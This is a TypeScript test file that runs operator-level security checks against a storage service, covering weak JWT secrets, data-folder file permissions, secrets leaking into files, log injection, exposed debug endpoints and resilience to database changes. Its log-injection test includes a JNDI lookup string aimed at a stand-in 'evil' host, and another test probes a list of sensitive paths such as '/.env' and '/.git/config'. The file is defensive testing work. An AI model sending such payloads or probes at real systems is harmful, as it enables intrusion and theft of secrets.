import { execFile } from 'node:child_process'
import { existsSync } from 'node:fs'
import { cp, mkdir, mkdtemp, readdir, readFile, rename, rm, stat } from 'node:fs/promises'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pg from 'pg'
import { expect } from 'vitest'
import { type Attack, each } from '../attack.ts'
import { startAttackedService } from '../attacked-service.ts'
import { graphqlBody, messagesOf, storageError } from '../outcome.ts'
import { jsonOf, request, send } from '../raw.ts'
import { createWorld } from '../world.ts'

const BIN = join(import.meta.dirname, '../../../bin/stowage.js')

/** Runs `stowage serve` until it ends; it is told to stop as soon as it serves. */
function serveOnce(env: NodeJS.ProcessEnv, shell?: string): Promise<{ readonly code: unknown; readonly said: string }> {
  return new Promise((resolve) => {
    const [file, args] = shell
      ? ['sh', ['-c', `${shell}; exec "$0" "$@"`, process.execPath, BIN, 'serve']]
      : [process.execPath, [BIN, 'serve']]
    const child = execFile(file as string, args as string[], { env, timeout: 40_000 }, (error, out, err) =>
      resolve({ code: error ? (error.code ?? error.signal) : 0, said: out + err }),
    )
    child.stdout?.on('data', (said: string) => {
      if (said.includes('ready at')) child.kill('SIGTERM')
    })
  })
}

const inFolder = async (work: (folder: string) => Promise<void>): Promise<void> => {
  const folder = await mkdtemp(join(tmpdir(), 'stowage-operator-'))
  try {
    await work(folder)
  } finally {
    await rm(folder, { recursive: true, force: true })
  }
}

const modeOf = async (path: string): Promise<number> => (await stat(path)).mode & 0o777

/** Everything below a folder that is readable text or not, but sockets and pipes. */
async function contentsOf(folder: string): Promise<ReadonlyMap<string, Buffer>> {
  const found = new Map<string, Buffer>()
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    const path = join(entry.parentPath, entry.name)
    if (entry.isFile()) found.set(path.slice(folder.length), await readFile(path).catch(() => Buffer.alloc(0)))
  }
  return found
}

export const OPERATOR: readonly Attack[] = [
  ...each(['short', 'x'.repeat(31), ' '.repeat(40)], (secret, what) => ({
    id: 'OP-01',
    what: `started with the secret ${what}`,
    play: async (world) =>
      inFolder(async (folder) => {
        const { code, said } = await serveOnce({ ...world.service.env, STOWAGE_DATA: folder, PORT: '0', JWT_SECRET: secret })
        if (secret.trim() === '') return expect(code).toBe(0) as undefined
        expect(code).toBe(1)
        expect(said).toMatch(/JWT_SECRET must have at least 32 bytes/)
        expect(said).not.toMatch(/\n\s+at |xxxxx|short/)
      }),
  })),
  {
    id: 'OP-01',
    what: 'started with a secret out of a manual',
    note: 'it warns and starts: starter kits set it on purpose on machines of their own',
    play: async (world) =>
      inFolder(async (folder) => {
        const { code, said } = await serveOnce({
          ...world.service.env,
          STOWAGE_DATA: folder,
          PORT: '0',
          JWT_SECRET: 'super-secret-jwt-token-with-at-least-32-characters-long',
        })
        expect(code).toBe(0)
        expect(said).toMatch(/warning: JWT_SECRET looks like a sample/)
        expect(said.split('warning').length - 1).toBeGreaterThan(0)
      }),
  },
  {
    id: 'OP-03',
    what: 'the bytes are another store, or an empty mount point, or the database is an older one: nothing is swept',
    play: async () => {
      const world = await createWorld({ STOWAGE_SWEEP_GRACE: '1s' })
      const { env } = world.service
      const data = env.STOWAGE_DATA ?? ''
      const kept = join(data, '..', 'kept')
      await world.db.end()
      // the folder of the service must outlive it
      const copy = await mkdtemp(join(tmpdir(), 'stowage-operator-'))
      try {
        world.service.kill('SIGTERM')
        await expect.poll(world.service.hasEnded, { timeout: 20_000 }).toBe(true)
        const before = await contentsOf(join(data, 'bytes'))
        await rename(join(data, 'bytes'), kept)
        await mkdir(join(data, 'bytes'), { mode: 0o700 })
        const empty = await serveOnce(env)
        expect([empty.code, /do not belong to the database/.test(empty.said)], empty.said.slice(-500)).toEqual([1, true])
        await rm(join(data, 'bytes'), { recursive: true })
        await cp(kept, join(data, 'bytes'), { recursive: true })
        const marker = [...before.keys()].find((path) => path.endsWith('stowage-store.json'))
        await rm(join(data, 'bytes', marker ?? ''))
        const unmarked = await serveOnce(env)
        expect([unmarked.code, /do not belong to the database/.test(unmarked.said)], unmarked.said.slice(-500)).toEqual([1, true])
        await rm(join(data, 'bytes'), { recursive: true })
        await rename(kept, join(data, 'bytes'))
        expect((await serveOnce(env)).code).toBe(0)
        const after = await contentsOf(join(data, 'bytes'))
        expect([...after.keys()].sort()).toEqual([...before.keys()].sort())
      } finally {
        await world.service.stop()
        await rm(copy, { recursive: true, force: true })
      }
    },
  },
  {
    id: 'OP-05',
    what: 'secrets and tokens in no file of the data folder but the one that is for them',
    play: async (world) => {
      await world.graphql('{accountCollection{edges{node{id}}}}', { as: 'A' })
      await world.ask('GET', '/object/authenticated/priv/none', { token: 'nonsense' })
      await world.graphql('mutation{become_service}', { as: 'A' })
      const files = await contentsOf(world.service.env.STOWAGE_DATA ?? '')
      expect(files.size).toBeGreaterThan(100)
      for (const [path, content] of files) {
        if (path === '/keys.json' || path === '/postgres.json') continue
        for (const canary of world.canaries()) expect(content.includes(canary), `${path} holds ${canary.slice(0, 12)}…`).toBe(false)
      }
      for (const path of ['/keys.json', '/postgres.json'])
        expect(await modeOf(join(world.service.env.STOWAGE_DATA ?? '', path))).toBe(0o600)
    },
  },
  ...each(
    ['a\u001b[31mred\u001b[0m', '${jndi:ldap://evil/x}', '"},{"level":60', '\u00ff\u0085\u2028', 'x'.repeat(7_000)],
    (text, what) => ({
      id: 'OP-06',
      what: `log lines of ${what}`,
      play: async (world) => {
        const from = world.service.said().length
        const latin1 = Buffer.from(text).toString('latin1')
        await world.send(
          request('GET', `/object/authenticated/priv/${encodeURIComponent(text.slice(0, 900))}`, [
            ['Authorization', `Bearer ${world.tokens.A}`],
            ['User-Agent', latin1],
            ['X-Request-Id', latin1],
            ['Referer', latin1],
          ]),
        )
        await world.db.query(
          `create or replace function tells() returns int language plpgsql as $f$ begin raise exception '%', ${pg.escapeLiteral(text.repeat(150).slice(0, 1_000_000))}; end $f$`,
        )
        const answer = await world.graphql('mutation{tells}')
        expect(answer.status).toBe(200)
        expect(messagesOf(answer)).toHaveLength(1)
        await new Promise((resolve) => setTimeout(resolve, 300))
        for (const line of world.service.said().slice(from).split('\n')) {
          if (line === '') continue
          expect(line.length, line.slice(0, 100)).toBeLessThan(20_000)
          expect(line).not.toMatch(/[\u0000-\u001f]/)
          if (line.startsWith('{')) expect(JSON.parse(line)).toBeTypeOf('object')
        }
        await world.db.query('drop function tells')
      },
    }),
  ),
  {
    id: 'OP-07',
    what: 'files for us alone, in folders for us alone',
    play: async (world) => {
      const data = world.service.env.STOWAGE_DATA ?? ''
      await world.ask('PUT', '/object/priv/op-07', { body: 'x' })
      expect((await modeOf(data)) & 0o007).toBe(0)
      expect(await modeOf(join(data, 'bytes'))).toBe(0o700)
      for (const entry of await readdir(join(data, 'bytes'), { recursive: true, withFileTypes: true }))
        expect(await modeOf(join(entry.parentPath, entry.name)), entry.name).toBe(entry.isDirectory() ? 0o700 : 0o600)
    },
  },
  {
    id: 'OP-09',
    what: 'no inspector, no profiles, no dumps',
    play: async (world) => {
      for (const path of [
        '/json',
        '/json/version',
        '/debug/pprof',
        '/debug/vars',
        '/metrics',
        '/heapdump',
        '/__inspect',
        '/.env',
        '/.git/config',
        '/server-status',
        '/admin',
        '/keys.json',
        '/actuator/env',
        '/console',
        '/phpinfo.php',
        '/wp-login.php',
      ])
        expect((await world.ask('GET', path, { as: 'service' })).status, path).toBe(404)
      const free = await new Promise<boolean>((resolve) => {
        const probe = createServer().once('error', () => resolve(false))
        probe.listen(9_229, '127.0.0.1', () => probe.close(() => resolve(true)))
      })
      if (!existsSync('/proc/net/tcp')) return
      const listening = await portsOf(world.service.pid)
      expect(listening, free ? '' : 'somebody else may use the inspector’s port').toEqual([world.service.port])
    },
  },
  {
    id: 'OP-10',
    what: 'started with umask 000',
    play: async (world) =>
      inFolder(async (folder) => {
        const data = join(folder, 'data')
        const { code, said } = await serveOnce({ ...world.service.env, STOWAGE_DATA: data, PORT: '0' }, 'umask 000')
        expect(code, said).toBe(0)
        expect((await modeOf(data)) & 0o007).toBe(0)
        expect(await modeOf(join(data, 'bytes'))).toBe(0o700)
        for (const name of ['keys.json', 'postgres.json']) expect(await modeOf(join(data, name)), name).toBe(0o600)
      }),
  },
  {
    id: 'OP-12',
    what: 'clients of all ages find their members in every error',
    play: async (world) => {
      const answers = [
        await world.ask('GET', '/bucket/none'),
        await world.ask('GET', '/object/authenticated/priv/none'),
        await world.ask('POST', '/bucket', { body: {} }),
        await world.ask('GET', '/bucket', { token: 'x' }),
        await world.ask('POST', '/object/list/priv', { body: '{' }),
        await world.ask('GET', '/object/nothing'),
      ]
      for (const answer of answers) {
        const body = jsonOf(answer) as { message: unknown; error: unknown; statusCode: unknown }
        expect([typeof body.message, typeof body.error, typeof body.statusCode], answer.body.toString()).toEqual([
          'string',
          'string',
          expect.stringMatching(/string|number/),
        ])
      }
    },
  },
  {
    id: 'OP-14',
    what: 'the database was migrated by a newer release: this one refuses to start, and says so',
    play: async (world) => {
      await world.db
        .query(`insert into stowage.migrations (name, sha256) select '9999-from-the-future', repeat('0', 64)`)
        .catch(async () => {
          const { rows } = await world.db.query(
            `select column_name from information_schema.columns where table_schema = 'stowage' and table_name = 'migrations' order by ordinal_position`,
          )
          throw new Error(`stowage.migrations has other columns: ${rows.map(({ column_name }) => column_name)}`)
        })
      try {
        await inFolder(async (folder) => {
          const { code, said } = await serveOnce({
            ...world.service.env,
            STOWAGE_DATA: join(folder, 'data'),
            PORT: '0',
            DATABASE_URL: world.service.keys.databaseUrl,
            JWT_SECRET: world.service.keys.jwtSecret,
          })
          expect([code, /newer release/.test(said)], said).toEqual([1, true])
          expect(said).not.toMatch(/\n\s+at /)
        })
      } finally {
        await world.db.query(`delete from stowage.migrations where name = '9999-from-the-future'`)
      }
      expect((await world.ask('GET', '/object/authenticated/priv/a.txt')).status).toBe(200)
    },
  },
  {
    id: 'OP-101',
    what: 'a second service on the database, with another secret or with bytes of its own, is refused and harms nobody',
    play: async (world) => {
      for (const [secret, words] of [
        [{}, /with another JWT_SECRET runs/],
        [{ JWT_SECRET: world.service.keys.jwtSecret }, /do not belong to the database/],
      ] as const) {
        await inFolder(async (folder) => {
          const { code, said } = await serveOnce({
            ...world.service.env,
            STOWAGE_DATA: join(folder, 'data'),
            PORT: '0',
            DATABASE_URL: world.service.keys.databaseUrl,
            ...secret,
          })
          expect([code, words.test(said)], said).toEqual([1, true])
        })
        await world.db.query(
          `select pg_terminate_backend(pid, 5000) from pg_stat_activity where usename in ('stowage_web', 'stowage_service')`,
        )
        await expect.poll(async () => (await world.ask('GET', '/object/authenticated/priv/a.txt')).status).toBe(200)
      }
    },
    mayAnswer: [503],
  },
  {
    id: 'OP-102',
    what: 'the built-in PostgreSQL is killed: turned away at first, then as before, same process',
    mayAnswer: [503],
    alarms: true,
    play: async () => {
      const service = await startAttackedService()
      try {
        const { rows } = await withClient(service.keys.databaseUrl, (client) => client.query('select pg_backend_pid() as pid'))
        expect(rows).toHaveLength(1)
        const postmaster = Number((await readFile(join(service.env.STOWAGE_DATA ?? '', 'postgres/postmaster.pid'), 'utf8')).split('\n')[0])
        process.kill(postmaster, 'SIGKILL')
        const ask = async () =>
          (await send(service.port, request('GET', '/bucket', [['Authorization', `Bearer ${service.keys.serviceKey}`]]))).answers[0]
        await expect.poll(async () => (await ask())?.status, { timeout: 15_000 }).toBe(200)
        const inside = await service.ask()
        expect([service.hasEnded(), inside.faults]).toEqual([false, []])
      } finally {
        await service.stop()
      }
    },
  },
  {
    id: 'OP-103',
    what: 'the extension is dropped while it is used: storage goes on, GraphQL says what is missing',
    play: async (world) => {
      await world.db.query('drop extension stowage_graphql')
      try {
        expect((await world.ask('GET', '/object/authenticated/priv/a.txt')).status).toBe(200)
        const answer = await world.graphql('{sampleCollection{edges{node{id}}}}', { options: { patience: 15_000 } })
        expect(answer.status).toBeOneOf([200, 503])
        expect(answer.body.toString()).toMatch(/stowage_graphql/)
      } finally {
        await world.db.query('create extension stowage_graphql')
      }
      expect(graphqlBody(await world.graphql('{sampleCollection{edges{node{id}}}}')).data).toBeTruthy()
    },
    mayAnswer: [503],
    alarms: true,
  },
  {
    id: 'OP-104',
    what: 'a table is dropped, renamed and made anew while it is asked for',
    play: async (world) => {
      let over = false
      const changing = (async () => {
        for (let i = 0; i < 15; i++) {
          await world.db.query(
            `create table shifting (id int primary key, ${i % 2 ? 'a' : 'b'} text); insert into shifting values (1, 'x')`,
          )
          await new Promise((resolve) => setTimeout(resolve, 20))
          await world.db.query(
            'alter table shifting add column late int; revoke select on shifting from anon; grant select on shifting to anon; drop table shifting',
          )
        }
        over = true
      })()
      while (!over) {
        for (const query of [
          '{shiftingCollection{edges{node{id a}}}}',
          '{shiftingCollection{edges{node{id b late}}}}',
          'mutation{insertIntoshiftingCollection(objects:[{id:2}]){affectedCount}}',
        ]) {
          const answer = await world.graphql(query)
          expect(answer.status, answer.body.toString()).toBe(200)
        }
      }
      await changing
    },
  },
  ...each(['/object/authenticated/priv/a.txt', '/bucket'], (target) => ({
    id: 'OP-105',
    what: `policies are dropped and made while ${target} is read`,
    play: async (world) => {
      let over = false
      const changing = (async () => {
        for (let i = 0; i < 10; i++) {
          for (const table of ['storage.objects', 'storage.buckets']) {
            await world.db.query(`create policy passing on ${table} for select to anon using (false)`)
            await world.db.query(`drop policy passing on ${table}`)
          }
        }
        over = true
      })()
      while (!over) expect((await world.ask('GET', target)).status).toBe(200)
      await changing
      const refused = await world.ask('GET', '/object/authenticated/priv/a.txt', { as: 'B' })
      expect(storageError(refused)?.statusCode).toBe('404')
    },
  })),
]

async function withClient<T>(url: string, work: (client: pg.Client) => Promise<T>): Promise<T> {
  const client = new pg.Client({ connectionString: url })
  client.on('error', () => undefined)
  await client.connect()
  try {
    return await work(client)
  } finally {
    await client.end().catch(() => undefined)
  }
}

/** Ports of TCP that a process listens on, by the sockets it holds (proc(5)). */
async function portsOf(pid: number): Promise<readonly number[]> {
  const { readlink } = await import('node:fs/promises')
  const links = await Promise.all((await readdir(`/proc/${pid}/fd`)).map((fd) => readlink(`/proc/${pid}/fd/${fd}`).catch(() => '')))
  const inodes = new Set(links.map((link) => /^socket:\[(\d+)\]$/.exec(link)?.[1]))
  const lines = (await Promise.all(['/proc/net/tcp', '/proc/net/tcp6'].map((path) => readFile(path, 'latin1').catch(() => ''))))
    .join('\n')
    .split('\n')
  return lines
    .map((line) => line.trim().split(/\s+/))
    .filter(([, , , state, , , , , , inode]) => state === '0A' && inodes.has(inode))
    .map(([, local = '']) => Number.parseInt(local.split(':')[1] ?? '', 16))
}
